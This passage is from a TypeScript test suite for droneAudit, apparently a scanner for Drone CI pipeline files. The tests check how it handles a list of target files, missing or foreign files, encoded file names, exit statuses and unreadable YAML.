    writeFileSync(join(cwd, 'list'), content);
    const { status, stdout } = droneAudit(['scan', '--format', 'json', '--targets-from', 'list'], { cwd });
    const json = JSON.parse(stdout);
    return {
      status,
      findings: json.findings.map((each: { file: string; rule: string }) => `${each.file} ${each.rule}`),
      problems: json.problems.map((each: { file: string; message: string }) => `${each.file}: ${each.message}`),
    };
  };

  it('passes over what is not Drone’s, and what is not there, with a word', () => {
    const folder = temporaryFolder();
    writeFiles(folder, {
      'README.md': 'x\n',
      'src/a.ts': 'let a;\n',
      '.drone.yml': pipeline([script]),
      'café.txt': 'x',
    });
    expect(list(folder, 'README.md\r\n.drone.yml\n\nsrc/a.ts\ngone.yml\n')).toEqual({
      status: 1,
      findings: ['.drone.yml remote-script'],
      problems: [
        "README.md: is not Drone's and was passed over (and 1 more)",
        'gone.yml: is in the list, and not there: passed over',
      ],
    });
    expect(list(folder, 'README.md\n')).toMatchObject({ status: 0, findings: [] });
    expect(list(folder, '"caf\\303\\251.txt"\n').problems).toEqual(["café.txt: is not Drone's and was passed over"]);
    expect(list(folder, Buffer.from('.drone.yml\0README.md\0'))).toMatchObject({ status: 1 });
    expect(droneAudit(['scan', 'README.md'], { cwd: folder }).status).toBe(3);
  });

  it.skipIf(!hasGit)('is not taken for one of deleted files where it was made for another folder', () => {
    const folder = repository({ 'sub/.drone.yml': pipeline([script]) });
    const told = list(join(folder, 'sub'), 'sub/.drone.yml\n');
    expect(told.status).toBe(3);
    expect(told.problems).toEqual([
      'sub/.drone.yml: is not there, but below the root of the repository: the list is made for that folder',
    ]);
  });

  it('still says what could not be read of what is Drone’s', () => {
    const folder = temporaryFolder();
    writeFiles(folder, { '.drone.yml': 'kind: pipeline\n  x: [\n' });
    expect(list(folder, '.drone.yml\n').status).toBe(3);
  });
});
